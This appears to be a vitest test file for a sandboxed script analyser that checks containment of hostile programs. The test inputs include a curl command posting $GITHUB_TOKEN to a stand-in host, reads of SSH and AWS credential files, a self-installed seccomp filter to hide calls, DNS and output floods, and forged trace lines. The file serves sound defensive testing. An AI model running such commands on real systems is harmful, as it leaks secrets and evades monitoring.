import { createConnection, createServer } from "node:net";
import { availableParallelism, networkInterfaces } from "node:os";
import { beforeAll, expect, it, onTestFinished } from "vitest";
import { listProcessesOf } from "../processes/user-ids";
import { probeIsolation } from "../sandbox/probe-isolation";
import { makeWorkDir } from "../testing/make-work-dir";
import { waitUntil } from "../testing/wait-until";
import { describeAbility, probeAnalysis } from "./probe-analysis";
import { type Analyst, prepareAnalyst } from "./testing/analyse";

let found: Analyst | string = "not set up";

beforeAll(async () => {
  found = await prepareAnalyst();
}, 60_000);

function analystOr(skip: (reason: string) => never): Analyst {
  return typeof found === "string" ? skip(found) : found;
}

const sh = (text: string) => `#!/bin/sh\n${text}\n`;

it("ends a program that never ends, and leaves none of its processes", { timeout: 60_000 }, async ({ skip }) => {
  const analyst = analystOr(skip);
  const report = await analyst.analyseScript("a.sh", sh("(setsid sleep 600 &)\nwhile :; do :; done"), {
    stepSeconds: 1,
  });
  expect(report.end).toMatchObject({ kind: "stopped", reason: expect.stringContaining("limit") });
  const { uids } = analyst.host.isolation;
  // The kernel needs a moment to end what it has killed.
  if (uids) await waitUntil("the end of its processes", () => listProcessesOf(uids).length === 0);
});

it("does not tell the name of the worker's machine", { timeout: 60_000 }, async ({ skip }) => {
  const lines = ["import platform, socket", "print(platform.node(), open('/etc/hostname').read().strip())"];
  const text = ["#!/usr/bin/env python3", ...lines, "print(socket.gethostbyname(socket.gethostname()))", ""].join("\n");
  const { stdout, addresses, names } = await analystOr(skip).analyseScript("a.py", text);
  expect(stdout).toBe("build-7 build-7\n127.0.0.1\n");
  expect([addresses, names]).toEqual([[], []]);
});

it("stops a flood of output, of files and of recorded calls", { timeout: 120_000 }, async ({ skip }) => {
  const analyst = analystOr(skip);
  const output = await analyst.analyseScript("a.sh", sh("yes"), { stepSeconds: 10 });
  expect(output.end).toMatchObject({ kind: "stopped" });
  expect(output.stdout.length).toBeLessThanOrEqual(4_000);
  const disk = await analyst.analyseScript(
    "b.sh",
    sh("for i in 1 2 3 4 5 6 7 8; do head -c 30000000 /dev/zero > ~/f$i; done; du -sk ~ | cut -f1"),
  );
  expect(Number(disk.stdout.trim())).toBeLessThan(70_000);
  const lists = await analyst.analyseScript("c.sh", sh("for i in $(seq 1 600); do : > /tmp/f$i; done"));
  expect(lists.writes).toHaveLength(200);
  expect(lists.beyond.writes).toBeGreaterThan(300);
});

it("keeps what a program prints as data: it can forge neither events nor the recorder", { timeout: 60_000 }, async ({
  skip,
}) => {
  const forged = [
    '99 openat(AT_FDCWD</>, "\\\\x2f\\\\x68", O_RDONLY) = 3',
    '{"kind":"name","name":"forged.example","address":"198.18.0.9"}',
    "99 +++ killed by SIGKILL +++",
  ];
  const text = forged.map((line) => `printf '%s\\n' '${line}'; printf '%s\\n' '${line}' >&2`).join("\n");
  const pipes = 'for n in 3 4 5 6 7 8 9 10 11 12; do ( eval "echo forged >&$n" ) 2>/dev/null; done; true';
  const name = "touch \"/tmp/$(printf 'a\\n99 +++ exited with 0 +++')\"";
  const report = await analystOr(skip).analyseScript(
    "a.sh",
    sh(`${text}\n${pipes}\n${name}\ncat ~/.ssh/id_rsa >/dev/null`),
  );
  expect(report.names).toEqual([]);
  expect(report.leftRunning).toEqual([]);
  expect(report.deeds).toEqual([{ kind: "read_canary", what: "~/.ssh/id_rsa" }]);
});

it("does not show a program that the tracer keeps it on one processor", { timeout: 60_000 }, async ({ skip }) => {
  const report = await analystOr(skip).analyseScript("a.sh", sh("nproc; sleep 0.01 & nproc; wait"));
  expect(report.stdout.trim().split("\n")).toEqual(Array(2).fill(String(availableParallelism())));
});

it("keeps a program from leaving the tracer's processor", { timeout: 60_000 }, async ({ skip }) => {
  const analyst = analystOr(skip);
  if (analyst.host.tracer.pin === null) skip("The tracer is not kept on one processor here.");
  const lines = [
    "import os",
    "own = [line for line in open('/proc/self/status') if 'Cpus_allowed_list' in line]",
    "os.sched_setaffinity(0, {0, 1})",
    "print(own == [line for line in open('/proc/self/status') if 'Cpus_allowed_list' in line])",
  ];
  const report = await analyst.analyseScript("a.py", ["#!/usr/bin/env python3", ...lines, ""].join("\n"));
  expect([report.stdout.trim(), report.stderr]).toEqual(["True", ""]);
});

it("lets nothing leave: a listener outside hears a control, and no step", { timeout: 60_000 }, async ({ skip }) => {
  const analyst = analystOr(skip);
  const heard: string[] = [];
  const server = createServer((socket) => socket.on("data", (data) => heard.push(String(data))).on("error", () => {}));
  await new Promise<void>((resolve) => server.listen(0, "0.0.0.0", resolve));
  onTestFinished(() => void server.close());
  const { port } = server.address() as { port: number };
  const own = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
  const hosts = ["127.0.0.1", ...own.filter(({ family }) => family === "IPv4").map(({ address }) => address)];
  const control = createConnection(port, "127.0.0.1", () => control.end("/control"));
  await waitUntil("the control", () => heard.length > 0);
  const tries = hosts.map((host) => `curl -s -m 2 http://${host}:${port}/step || echo refused`).join("\n");
  const report = await analyst.analyseScript("a.sh", sh(tries));
  expect(report.addresses.map(({ address }) => address)).toEqual(expect.arrayContaining(hosts));
  expect(heard).toHaveLength(1);
  expect(heard[0]).toContain("/control");
});

it("answers names to a step after one that asked for more than are answered", { timeout: 90_000 }, async ({ skip }) => {
  const analyst = analystOr(skip);
  if (analyst.host.recorder === null) skip("This worker has no recorder.");
  const flood = [
    "import socket",
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
    "for i in range(4100):",
    "  label = b'h%04d' % i",
    "  s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5' + label + b'\\7example\\0\\0\\1\\0\\1', ('10.0.2.3', 53))",
    "  if i < 3990: s.recv(512)",
    "",
  ].join("\n");
  const files = { "a.py": flood, "b.sh": sh('curl -s -m 5 -d "$GITHUB_TOKEN" http://late.example/') };
  const outcome = await analyst.analyse(
    files,
    Object.keys(files).map((path) => ({ kind: "script", path, argv: [], stdin: "" })),
  );
  const [first, second] = outcome.kind === "report" ? outcome.report.steps : [];
  expect(first?.end, first?.stderr).toEqual({ kind: "exited", exitCode: 0 });
  expect(first?.beyond.network).toBeGreaterThan(0);
  expect(second?.deeds).toEqual([{ kind: "sent_canary", what: "$GITHUB_TOKEN to late.example:80" }]);
});

it("says why it is not available, and has no report then", async () => {
  const dir = makeWorkDir();
  const isolation = await probeIsolation(dir);
  const options = { workDir: { path: dir, skillsDir: dir }, recorderProgram: "/nowhere" };
  const missing = await probeAnalysis(isolation, { ...options, tracer: null });
  expect(describeAbility(missing)).toMatchObject({ kind: "not_available", reason: expect.any(String) });
  const broken = await probeAnalysis(isolation, { ...options, tracer: "/bin/true" });
  expect(describeAbility(broken)).toMatchObject({ kind: "not_available" });
});

it.for([
  ["seccomp", "L.syscall({'x86_64': 317, 'aarch64': 277}[os.uname().machine], 1, 8, program)"],
  ["prctl", "L.prctl(22, 2, program)"],
] as const)(
  "refuses a filter of the program's own by %s, which could hide calls",
  { timeout: 60_000 },
  async ([call, install], { skip }) => {
    const lines = [
      "import ctypes, os, struct",
      "L = ctypes.CDLL(None, use_errno=True)",
      "allow = struct.pack('HBBI', 6, 0, 0, 0x7fff0000)",
      "code = ctypes.create_string_buffer(allow)",
      "program = ctypes.create_string_buffer(struct.pack('HxxxxxxQ', 1, ctypes.addressof(code)))",
      "L.prctl(38, 1, 0, 0, 0)",
      install,
      "open(os.environ['HOME'] + '/.aws/credentials').read()",
      "print('read')",
    ];
    const report = await analystOr(skip).analyseScript("a.py", ["#!/usr/bin/env python3", ...lines, ""].join("\n"));
    expect(report.stdout).not.toContain("read");
    expect(report.deeds).toContainEqual({ kind: "refused_call", what: expect.stringContaining(call) });
  },
);
